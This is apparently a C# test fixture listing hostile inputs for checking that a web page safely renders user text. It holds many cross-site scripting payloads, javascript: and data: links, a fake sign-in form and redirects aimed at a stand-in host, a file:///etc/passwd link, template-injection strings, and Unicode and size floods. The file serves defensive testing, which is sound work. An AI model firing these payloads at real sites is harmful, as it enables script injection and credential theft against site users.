namespace Web.Tests;

/// <summary>Texts that try to run a script, to reach another server, or to break the page that shows them. A script that ran sets <c>window.hacked</c>.</summary>
public static class HostileTexts
{
    /// <summary>What would set the mark of a script that ran.</summary>
    public const string Mark = "window.hacked=1";

    /// <summary>A server that nobody may be led to without a click.</summary>
    public const string Elsewhere = "https://elsewhere.example/x";

    /// <summary>Short ones, which may also be titles and names.</summary>
    public static IReadOnlyList<string> Attacks { get; } =
    [
        // Elements and handlers.
        $"<script>{Mark}</script>",
        $"<ScRiPt >{Mark}</sCrIpT >",
        $"<script src=\"{Elsewhere}.js\"></script>",
        $"<<script>script>{Mark}</script>",
        $"<img src=x onerror=\"{Mark}\">",
        $"<img/src=x/onerror={Mark}>",
        $"<img src=\"{Elsewhere}.png\">",
        $"\"><img src=x onerror={Mark}>",
        $"'-alert(1)-'\" autofocus onfocus={Mark} x=\"",
        $"<svg onload={Mark}>",
        $"<svg><script>{Mark}</script></svg>",
        $"<svg><a xlink:href=\"javascript:{Mark}\"><text y=20>x</text></a></svg>",
        $"<svg><animate onbegin={Mark} attributeName=x dur=1s>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Mark}>",
        $"<math href=\"javascript:{Mark}\">x</math>",
        $"<iframe src=\"javascript:{Mark}\"></iframe>",
        $"<iframe srcdoc=\"<script>parent.{Mark}</script>\"></iframe>",
        $"<object data=\"javascript:{Mark}\"></object><embed src=\"{Elsewhere}\">",
        $"<style>@import '{Elsewhere}.css'; body {{ display: none }}</style>",
        $"<div style=\"position:fixed;inset:0;z-index:9999;background:url({Elsewhere})\">all is covered</div>",
        $"<link rel=stylesheet href=\"{Elsewhere}.css\">",
        $"<meta http-equiv=refresh content=\"0;url={Elsewhere}\">",
        $"<base href=\"{Elsewhere}/\">",
        $"<form action=\"{Elsewhere}\"><input name=password><button>Sign in</button></form>",
        $"<video><source onerror={Mark}></video><audio src=x onerror={Mark}>",
        $"<details open ontoggle={Mark}>x</details><body onload={Mark}>",
        $"<input autofocus onfocus={Mark}><select autofocus onfocus={Mark}>",
        $"<template><script>{Mark}</script></template><noscript><p title=\"</noscript><img src=x onerror={Mark}>\">",
        $"<!--<img src=\"--><img src=x onerror={Mark}>",
        $"<![CDATA[<script>{Mark}</script>]]>",
        // Entities, case and control characters.
        $"&lt;script&gt;{Mark}&lt;/script&gt; &#60;img src=x onerror={Mark}&#62;",
        $"<img src=x on\u0000error={Mark}>".Replace("\0", "\uFFFD", StringComparison.Ordinal),
        $"<a href=\"&#106;avascript:{Mark}\">x</a>",
        // Links.
        $"[click](javascript:{Mark})",
        $"[click](JaVaScRiPt:{Mark})",
        $"[click](java&#115;cript:{Mark})",
        $"[click](java\tscript:{Mark}) [click](<java\\script:{Mark}>)",
        $"[click](<javascript:{Mark}>) [click](\u0001javascript:{Mark})",
        $"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [click](vbscript:msgbox)",
        $"[click](//elsewhere.example) [click](/sign-out) [click](blob:{Elsewhere}) [click](file:///etc/passwd)",
        $"[click][1] ![img][1]\n\n[1]: javascript:{Mark} \"title\"",
        $"<javascript:{Mark}> <data:text/html,x> javascript:{Mark}",
        $"[click]({Elsewhere} \"\\\" onmouseover={Mark} x=\\\"\")",
        $"[a\" onclick=\"{Mark}]({Elsewhere}\" onclick=\"{Mark})",
        $"![alt\" onerror=\"{Mark}]({Elsewhere}.png \"t\\\" onload=\\\"{Mark}\")",
        $"[![img]({Elsewhere}.png)](javascript:{Mark})",
        $"{Elsewhere}\"onmouseover={Mark}\" www.elsewhere.example\"onclick={Mark}",
        // Other Markdown.
        $"```\"><img src=x onerror={Mark}>\ncode\n```",
        $"```js onload={Mark}\n</code></pre><script>{Mark}</script>\n```",
        $"| a<script>{Mark}</script> | b |\n|---|---|\n| <img src=x onerror={Mark}> | `</td><script>{Mark}</script>` |",
        $"x[^1]\n\n[^1]: <img src=x onerror={Mark}>",
        $"# <img src=x onerror={Mark}>\n\n> <svg onload={Mark}>\n\n- <script>{Mark}</script>",
        $"{{{{constructor.constructor('{Mark}')()}}}} ${{{Mark}}} <%= {Mark} %>",
        // Direction, marks and width.
        "\u202Egnp.exe \u2066\u2067\u202B\u202D reversed",
        "\u2067\u2067\u2067\u2067 isolates that nobody ends",
        "Z\u0351\u036F\u0312a\u0310\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E\u030F\u0316\u0317\u0318\u0319\u031A\u031B\u031C\u031D\u031E\u031F\u0320lgo",
        "\u200B\u200C\u200D\u2060\uFEFF\u00AD invisible \u2028 lines \u2029 end",
        "\u0007\u0008\u001B[31mred\u001B[0m \u007F \uFFFE \uFFFF",
        "ﷺ﷽ 👩‍👩‍👧‍👦🏳️‍🌈 ‮ مرحبا שלום",
    ];

    /// <summary>Long ones: senseless, or of a size that nobody reads.</summary>
    public static IReadOnlyList<string> Floods { get; } =
    [
        Repeated("👩‍👩‍👧", 10_000),
        Repeated("😀", 10_000),
        Repeated("Z\u0351\u036F\u0312\u0310\u0300\u0301\u0302\u0303", 2_000),
        new('x', 100_000),
        Repeated("long-word-", 5_000),
        Repeated(">", 10_000) + " deep",
        Repeated("> ", 10_000) + "deep",
        Repeated("[", 10_000) + Repeated("]", 10_000),
        Repeated("![", 10_000) + Repeated("](x)", 5_000),
        Repeated("*a **b ", 5_000),
        Repeated("- ", 10_000) + "deep",
        Repeated("1. ", 10_000) + "deep",
        string.Concat(Enumerable.Range(0, 200).Select(depth => new string(' ', depth * 2) + "- x\n")),
        Repeated("<div>", 8_000),
        Repeated("\u202E\u2067", 10_000),
        "|" + Repeated("h|", 20) + "\n|" + Repeated("-|", 20) + "\n" + Repeated("|" + Repeated("c|", 20) + "\n", 2_000),
        "|" + Repeated("h|", 60) + "\n|" + Repeated("-|", 60) + "\n" + Repeated("|" + Repeated(new string('w', 30) + "|", 60) + "\n", 10),
        Repeated("&#x41;", 8_000),
        Repeated("a\n", 20_000),
    ];

    private static string Repeated(string text, int times) => string.Concat(Enumerable.Repeat(text, times));
}
